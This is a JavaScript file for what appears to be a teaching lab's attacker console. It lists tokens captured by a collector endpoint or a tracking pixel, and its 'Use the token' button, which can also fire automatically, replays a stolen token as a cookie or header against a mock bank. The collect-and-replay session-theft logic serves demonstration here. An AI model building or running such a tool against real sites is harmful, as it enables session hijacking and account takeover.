document.querySelector('#origin').textContent = location.origin;
const list = document.querySelector('#seen');
const { student, start } = document.body.dataset;
const query = `?student=${student}`;
const thinkMs = 3000;
/** What an entry is, in words. */
const names = { collect: 'Sent here', pixel: 'Pixel', replay: 'Answer of the bank' };
const tokenIn = (text) => /[\w-]{86}/.exec(text)?.[0];

async function update() {
  const response = await fetch(`/seen${query}`);
  const { seen } = await response.json();
  document.querySelector('#nothing').hidden = seen.length > 0;
  list.replaceChildren(...seen.map(entry));
}

function entry({ kind, text, origin, referer }) {
  const from = origin || referer;
  const item = document.createElement('li');
  const code = document.createElement('code');
  code.textContent = text;
  item.append(`${names[kind]}${from ? ` from ${from}` : ''}: `, code);
  const token = tokenIn(text);
  if (kind === 'collect' && token !== undefined)
    item.append(useButton(token, text.includes('bank=') ? 'cookie' : 'header'));
  return item;
}

function useButton(token, as) {
  const button = document.createElement('button');
  button.textContent = 'Use the token';
  button.addEventListener('click', async () => {
    await fetch(`/replay${query}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ token, as }),
    });
    await update();
  });
  return button;
}

await update();
// Without an answer, the list stays as it was.
setInterval(() => update().catch(() => undefined), 1000);
// With ?go=soon, the newest token is used without a click, after a time to read.
if (start === 'soon') setTimeout(() => [...list.querySelectorAll('button')].at(-1)?.click(), thinkMs);
